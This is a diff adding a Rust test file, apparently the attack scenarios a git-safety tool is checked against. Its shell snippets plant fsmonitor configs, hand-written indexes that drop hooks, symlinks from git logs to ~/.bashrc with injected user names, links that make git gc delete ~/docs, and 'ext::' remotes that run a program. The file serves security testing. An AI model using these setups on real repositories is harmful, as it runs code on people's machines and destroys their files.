@@ -1,0 +1,183 @@
+//! S9, by what leads elsewhere: links and other names within a git directory, by which git would write to what it obeys or
+//! to the person's own; an index that takes files out to anywhere; and ways that lead others elsewhere than whoever looks.
+
+use crate::git::{Plant, plant};
+
+/// A commit whose message is a configuration.
+const SAID: &str = r#"
+    git checkout -q -b said; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./evil\n' >message
+    git commit -q --allow-empty -F message; git checkout -q main
+"#;
+
+/// The same in a nested one, with a file of its own.
+const SAID_THERE: &str = r#"
+    cd n; git checkout -q -b said; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ../evil\n' >message
+    touch f; git add f; git commit -q -F message; git checkout -q -
+"#;
+
+/// The same with what a `.git` would say.
+const POINTING: &str = r#"
+    git checkout -q -b said; echo 'gitdir: ../v/data' >message; git commit -q --allow-empty -F message
+    git checkout -q main; mkdir p; git init -q --separate-git-dir .git/modules/p p; cp evil p/
+"#;
+
+/// A repository among a stranger's files, of no work tree.
+const STRANGERS: &str = r#"
+    mkdir -p v/data/objects v/data/refs; cp .git/HEAD v/data/; cp evil v/
+    printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n' >v/data/config
+"#;
+
+/// Something to be lost.
+const DOCUMENTS: &str = "mkdir -p ~/docs/d; echo x >~/docs/d/thesis; echo y >~/docs/other";
+
+/// A repository that nobody has committed to for a while.
+const NESTED: &str = "git init -q n; git -C n commit -q --allow-empty -m zero";
+const TAKEN_OUT: &str = "cd n; git checkout -- .; git commit -q --allow-empty -m x";
+
+/// Writes an index with what is in `names`, each of the content of `evil`.
+const INDEX: &str = r#"
+    cat >index.py <<'END'
+import hashlib, os, struct, subprocess
+oid = subprocess.run(["git", "hash-object", "-w", "evil"], capture_output=True).stdout.decode().strip()
+def entry(name):
+    name = name.encode()
+    entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(oid) + struct.pack(">H", len(name)) + name
+    return entry + b"\0" * (8 - len(entry) % 8)
+names = sorted(os.environ["names"].split())
+text = b"DIRC" + struct.pack(">II", 2, len(names)) + b"".join(map(entry, names))
+path = subprocess.run(["git", "rev-parse", "--git-path", "index"], capture_output=True).stdout.decode().strip()
+open(path, "wb").write(text + hashlib.sha1(text).digest())
+END
+    python3 index.py
+"#;
+
+/// A repository so deep that its path is too long, and `sub/.git` that leads there by short links.
+const DEEP: &str = r#"
+    cat >deep.py <<'END'
+import os
+top, name = os.getcwd(), "d" * 250
+def down(count):
+    for _ in range(count):
+        os.mkdir(name)
+        os.chdir(name)
+def up(count):
+    for _ in range(count):
+        os.chdir("..")
+os.mkdir("x")
+os.chdir("x")
+down(24)
+for part in ["repo/objects", "repo/refs"]:
+    os.makedirs(part)
+open("repo/HEAD", "w").write("ref: refs/heads/main\n")
+open("repo/config", "w").write("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./evil\n")
+up(12)
+os.symlink("/".join([name] * 12) + "/repo", "b")
+up(12)
+os.symlink("/".join([name] * 12), "a")
+os.chdir(top)
+os.makedirs("sub", exist_ok=True)
+os.symlink("../x/a/b", "sub/.git")
+END
+    rm -rf sub; python3 deep.py; cp evil sub/
+"#;
+
+/// A rebase that stops, so that its files can be changed.
+const STOPPED: &str = r#"
+    for i in 1 2 3; do echo $i >f$i; git add f$i; git commit -q -m $i; done
+    GIT_SEQUENCE_EDITOR='sed -i 1s,.*,break,' git rebase -q -i HEAD~2
+"#;
+
+pub(crate) const PLANTS: &[Plant] = &[
+    plant("s9_index_with_a_hook", INDEX, TAKEN_OUT)
+        .after(NESTED)
+        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit a'"),
+    plant("s1_index_with_a_file_outside", INDEX, "cd n; git checkout -- .; [ ! -e ../outside ] || touch ~/mark")
+        .after(NESTED)
+        .with("cd n; cp ../evil .; export names='../outside a'"),
+    plant("s9_index_that_is_moved", INDEX, TAKEN_OUT)
+        .after(NESTED)
+        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit' GIT_INDEX_FILE=$PWD/kept")
+        .then("mv n/kept n/.git/index"),
+    plant("s9_index_in_two_parts", INDEX, TAKEN_OUT)
+        .after(NESTED)
+        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit' GIT_INDEX_FILE=$PWD/kept")
+        .then("cd n; GIT_INDEX_FILE=$PWD/kept git update-index --split-index; mv kept .git/index; mv -f sharedindex.* .git || true"),
+    plant(
+        "s9_log_that_leads_to_what_a_shell_starts_with",
+        "git config user.name 'x;touch ~/mark;y'; ln -sf ~/.bashrc .git/logs/HEAD",
+        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
+    ),
+    plant(
+        "s9_directory_of_logs_that_leads_elsewhere",
+        "git config user.name 'x;touch ~/mark;y'; mkdir l; ln -s ~/.bashrc l/HEAD; rm -r .git/logs; mv l .git/logs",
+        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
+    ),
+    plant(
+        "s9_message_that_leads_to_the_configuration",
+        "ln -s config n/.git/MERGE_MSG",
+        "cd n; git cherry-pick said; git status",
+    )
+    .after_both(NESTED, SAID_THERE),
+    plant(
+        "s9_message_that_is_the_configuration",
+        "ln -f .git/config .git/COMMIT_EDITMSG",
+        "git commit -q --allow-empty -C said; git status",
+    )
+    .after(SAID),
+    plant(
+        "s9_message_that_is_a_pointer",
+        "ln -f p/.git .git/COMMIT_EDITMSG",
+        "git commit -q --allow-empty -C said; cd p; git status",
+    )
+    .after_both(STRANGERS, POINTING),
+    plant("s1_worktree_that_leads_elsewhere", "mkdir .git/worktrees; ln -s ~/docs .git/worktrees/x", "git gc -q; [ -e ~/docs/d/thesis ] || touch ~/mark")
+        .after(DOCUMENTS),
+    plant("s1_rebase_that_leads_elsewhere", "ln -s ~/docs .git/rebase-merge", "git rebase --quit; [ -e ~/docs/d/thesis ] || touch ~/mark")
+        .after(DOCUMENTS),
+    plant(
+        "s9_link_that_leads_whoever_looks_elsewhere",
+        "mkdir own; ln -s /proc/self/cwd/../v/data own/.git; cp evil own/",
+        "",
+    )
+    .after(STRANGERS),
+    plant(
+        "s9_pointer_that_leads_whoever_looks_elsewhere",
+        "mkdir own; echo 'gitdir: /proc/self/cwd/../v/data' >own/.git; cp evil own/",
+        "",
+    )
+    .after(STRANGERS),
+    plant(
+        "s9_pointer_through_what_no_command_sees",
+        "mkdir own; echo \"gitdir: $(cat by)/../$PWD/v/data\" >own/.git; cp evil own/",
+        "",
+    )
+    .after_both(STRANGERS, "mkdir -p ~/.ssh/d; cd; echo \"$PWD/.ssh/d/../$(pwd | sed 's,/[^/]*,/..,g')\" >../workspace/by"),
+    plant(
+        "s9_where_one_pushes_through_whoever_looks",
+        "git config remote.origin.url /proc/self/cwd/d.git",
+        "git push",
+    )
+    .after("git init -q --bare d.git; cp evil d.git/hooks/pre-receive"),
+    plant("s9_repository_that_is_too_deep", DEEP, "git status"),
+    plant(
+        "s9_repository_among_objects",
+        r#"
+        mkdir -p x/ab; cd x/ab; cp ../../.git/HEAD .; ln -s ../../.git/objects ../../.git/refs .; cp ../../evil .
+        printf '[core]\n\tbare = false\n\tworktree = .\n\trepositoryformatversion = 0\n' >config
+    "#,
+        "cd objects/ab; git status",
+    )
+    .then("mv x objects; printf '\\tfsmonitor = ./evil\\n' >>objects/ab/config"),
+    plant(
+        "s9_strategy_that_is_a_script",
+        r#"echo octopus >.git/rebase-merge/strategy; printf %s '-- x "$(./evil)"' >.git/rebase-merge/strategy_opts"#,
+        "git rebase --continue",
+    )
+    .with(STOPPED),
+    plant(
+        "s9_remote_that_is_a_program",
+        "git config branch.main.remote 'ext::./evil'; git config remote.pushDefault 'ext::./evil'",
+        "git fetch; git push",
+    )
+    .after("git config --global protocol.ext.allow always"),
+];
